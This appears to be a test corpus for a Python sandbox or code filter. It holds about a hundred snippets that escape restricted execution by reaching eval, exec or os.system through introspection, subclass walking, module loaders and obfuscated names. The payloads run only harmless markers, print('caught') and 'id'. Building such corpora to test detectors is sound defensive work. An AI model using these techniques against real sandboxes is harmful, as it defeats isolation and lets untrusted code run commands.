print.__self__.eval("print('caught')")
# ---
f = (lambda: 0)
f.__globals__["__builtins__"].eval("print('caught')")
# ---
getattr(len, "__self__").__dict__["exec"]("print('caught')")
# ---
import builtins as b
vars(b)["ev" + "al"]("print('caught')")
# ---
globals()["__builtins__"].exec("print('caught')")
# ---
{**globals()}["__builtins__"].exec("print('caught')")
# ---
g = {**globals()}
g["__built" + "ins__"].exec("print('caught')")
# ---
dict(globals()).get("__builtins__").eval("print('caught')")
# ---
globals().copy().pop("__builtins__").eval("print('caught')")
# ---
locals().__getitem__("__builtins__").eval("print('caught')")
# ---
next(v for k, v in globals().items() if k.endswith("ins__")).eval("print('caught')")
# ---
[v for k, v in globals().items() if "built" in k][0].exec("print('caught')")
# ---
list(globals().values())[6].eval("print('caught')")
# ---
for k in list(globals()):
    if len(k) == 12 and k[2] == "b":
        globals()[k].eval("print('caught')")
# ---
(lambda **k: k["__builtins__"].eval("print('caught')"))(**globals())
# ---
match globals():
    case {"__builtins__": b}:
        b.eval("print('caught')")
# ---
"%(__builtins__)s" % globals()
match vars():
    case {"__spec__": _, **rest}:
        rest["__builtins__"].eval("print('caught')")
# ---
def f(): ...
f.__builtins__["eval"]("print('caught')")
# ---
import random
random.choice.__func__.__builtins__["exec"]("print('caught')")
# ---
class A:
    def m(self): ...
A.m.__builtins__.get("eval")("print('caught')")
# ---
class A:
    def __init__(self): ...
vars(A)["__init__"].__globals__["__builtins__"].eval("print('caught')")
# ---
import os
os.environ.get.__globals__["sys"].modules["posix"].system("id")
# ---
import os
os.environ.__class__.get.__globals__["Mapping"]
os.path.join.__globals__["os"].system("id")
# ---
import os
os.path.os.system("id")
# ---
import os
os.__dict__["sys" "tem"]("id")
# ---
import os
object.__getattribute__(os, "system")("id")
# ---
import os
type(os).__getattribute__(os, "po" + "pen")("id; echo caught >&2").read()
# ---
import os
for n in dir(os):
    if n.startswith("sys") and len(n) == 6:
        getattr(os, n)("id")
# ---
import os
[getattr(os, n) for n in dir(os) if n == "system"][0]("id")
# ---
import os, inspect
[v for k, v in inspect.getmembers(os, callable) if k == "system"][0]("id")
# ---
import os, inspect
inspect.getattr_static(os, "system")("id")
# ---
import os, operator
operator.methodcaller("system", "id")(os)
# ---
from operator import attrgetter as ag
import posixpath
ag("os.system")(posixpath)("id")
# ---
import os
from functools import partial
partial(getattr, os)("system")("id")
# ---
import os
list(map(getattr, [os], ["system"]))[0]("id")
# ---
import os
g = getattr
g(os, "".join(["s", "y", "s", "t", "e", "m"]))("id")
# ---
import os
getattr(os, bytes([115, 121, 115, 116, 101, 109]).decode())("id")
# ---
import os
getattr(os, "".join(chr(c) for c in (115, 121, 115, 116, 101, 109)))("id")
# ---
import os
getattr(os, "".join(map(chr, [115, 121, 115, 116, 101, 109])))("id")
# ---
import os, base64
getattr(os, base64.b64decode("c3lzdGVt").decode())("id")
# ---
import os, codecs
getattr(os, codecs.encode("flfgrz", "rot13"))("id")
# ---
import os
getattr(os, "sy" "\x73" "\164\N{LATIN SMALL LETTER E}m")("id")
# ---
import os
getattr(os, "\N{LATIN SMALL LETTER S}y\N{LATIN SMALL LETTER S}tem")("id")
# ---
getattr(print, "\N{LOW LINE}\N{LOW LINE}self\N{LOW LINE}_").eval("print('caught')")
# ---
getattr(print, "\N{LOW LINE}_self\N{low line}_").eval("print('caught')")
# ---
getattr(print, "%sself%s" % ("__", "__")).eval("print('caught')")
# ---
getattr(print, "{0}self{0}".format("__")).eval("print('caught')")
# ---
u = "_" * 2
getattr(print, f"{u}self{u}").eval("print('caught')")
# ---
getattr(print, "__SELF__".lower()).eval("print('caught')")
# ---
getattr(print, "__s3lf__".replace("3", "e")).eval("print('caught')")
# ---
getattr(print, "xx__self__xx".strip("x")).eval("print('caught')")
# ---
getattr(print, "a.__self__.b".split(".")[1]).eval("print('caught')")
# ---
getattr(print, str(b"__self__", "ascii")).eval("print('caught')")
# ---
getattr(print, "__tmgs__".translate({116: 115, 109: 101, 103: 108, 115: 102})).eval("print('caught')")
# ---
parts = ["__", "self", "__"]
name = ""
for p in parts:
    name += p
getattr(print, name).eval("print('caught')")
# ---
def j(*a):
    return "".join(a)
getattr(print, j("__", "self", "__")).eval("print('caught')")
# ---
class N:
    u = "__"
getattr(print, N.u + "self" + N.u).eval("print('caught')")
# ---
d = {"a": "__se", "b": "lf__"}
getattr(print, d["a"] + d["b"]).eval("print('caught')")
# ---
import sys
sys.modules["os"].system("id")
# ---
from sys import modules as table
table.get("os").system("id")
# ---
import sys
getattr(sys, "modules")["os"].system("id")
# ---
import sys
sys.__dict__["modules"]["os"].system("id")
# ---
import sys
sys.exc_info
sys.__spec__.loader.load_module("posix").system("id")
# ---
__loader__.get_source
__spec__
__loader__.__class__.__init__.__globals__["sys"].modules["os"].system("id")
# ---
__spec__ = None
__import__("importlib").import_module("os").system("id")
# ---
import sys
sys.meta_path[0].load_module("posix").system("id")
# ---
import sys
sys.path_hooks[1].__closure__
sys.stdout.buffer.raw.name
sys.displayhook.__self__.modules["os"].system("id")
# ---
help.__class__.__call__.__globals__["sys"].modules["os"].system("id")
# ---
exit.__class__.__init__.__globals__["sys"].modules["os"].system("id")
# ---
import site
site.os.system("id")
# ---
license._Printer__setup.__func__.__globals__["sys"].modules["os"].system("id")
# ---
quit.__call__.__func__.__globals__["__builtins__"]["eval"]("print('caught')")
# ---
import types
types.ModuleType("x").__class__
types.FunctionType((lambda: print("caught")).__code__, {"print": print})()
# ---
import warnings
warnings.catch_warnings()._module.__builtins__["eval"]("print('caught')")
# ---
import warnings
warnings.catch_warnings()._module.sys.modules["os"].system("id")
# ---
import warnings
warnings.sys.modules["os"].system("id")
# ---
[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0].__init__.__globals__["system"]("id")
# ---
[c for c in object.__subclasses__() if c.__name__ == "catch_warnings"][:1]
for c in type.__subclasses__(object):
    if c.__name__ == "Popen" or c.__name__ == "_wrap_close":
        c.__init__.__globals__["system"]("id")
# ---
base = type.mro(type(()))[-1]
for c in type.__subclasses__(base):
    if "wrap_close" in str(c):
        c.__init__.__globals__["popen"]("id 1>&2").read()
# ---
m = type.mro
b = m(int)[1]
for c in getattr(b, "__subcl" + "asses__")():
    if c.__name__ == "_wrap_close":
        getattr(getattr(c, "__init__"), "__globals__")["system"]("id")
# ---
import inspect
base = inspect.getmro(str)[-1]
for c in getattr(type, "__subclasses__")(base):
    if c.__name__ == "_wrap_close":
        c.__init__.__globals__["system"]("id")
# ---
import inspect
print(len(inspect.getclasstree([int])))
for c in [k for k in inspect.getclasstree([object])[0][0].__subclasses__()]:
    if c.__name__ == "_wrap_close":
        c.__init__.__globals__["system"]("id")
# ---
sub = vars(type)["__subclasses__"]
for c in sub(object):
    if c.__name__ == "_wrap_close":
        c.__init__.__globals__["system"]("id")
# ---
x = "".__class__.__mro__[1].__subclasses__
for c in x():
    if c.__name__ == "_wrap_close":
        vars(c)["__init__"].__globals__["system"]("id")
# ---
class S(str): pass
[*filter(lambda c: c.__name__ == "_wrap_close", S.__bases__[0].__base__.__subclasses__())][0].close.__globals__["system"]("id")
# ---
import abc
for c in abc.ABC.__base__.__subclasses__():
    if c.__name__ == "_wrap_close":
        c.__init__.__globals__["system"]("id")
# ---
import weakref, gc
[o for o in gc.get_objects() if getattr(o, "__name__", "") == "posix"][0].system("id")
# ---
import gc
gc.get_referents(print.__class__)
for m in gc.get_referents(globals()):
    if getattr(m, "__name__", 0) == "builtins":
        m.eval("print('caught')")
# ---
import gc as g
get = g.get_referrers
[r for r in get(abs) if isinstance(r, dict) and "eval" in r][0]["eval"]("print('caught')")
# ---
import unittest
c = unittest.TestCase()
c.run.__func__.__globals__["sys"].modules["os"].system("id")
# ---
super(type(lambda: 0), lambda: 0).__class__
s = super(int, 3)
s.__self_class__.__base__.__subclasses__()[140:150]
print.__class__.__base__.__subclasses__()
eval("print('caught')")
# ---
def f(): yield
f.__get__(1).__func__.__globals__["__builtins__"].eval("print('caught')")
# ---
str.format.__objclass__.__base__.__subclasses__()
str.join.__class__.__base__.__subclasses__()
__builtins__.__dict__["exec"]("print('caught')")
# ---
a = __builtins__
def f():
    return a
f().eval("print('caught')")
# ---
def f():
    global __builtins__
    return __builtins__
f().eval("print('caught')")
# ---
class C:
    b = __builtins__
C.b.exec("print('caught')")
# ---
def f(x=__builtins__): return x
f().exec("print('caught')")
# ---
__build_class__.__self__.eval("print('caught')")
# ---
import math
math.__loader__.create_module(math.__spec__)
math.__loader__.load_module
type(math.__spec__)("posix", type(__import__("sys").__loader__))
print("caught")
# ---
import math
math.__spec__.loader.__class__
math.__dict__["__loader__"].__class__.__base__
math.__loader__.__init__.__globals__["sys"].modules["os"].system("id")
# ---
import sys
sys.__loader__.load_module("posix").system("id")
# ---
import this as t, builtins
builtins.__import__("os").system("id")
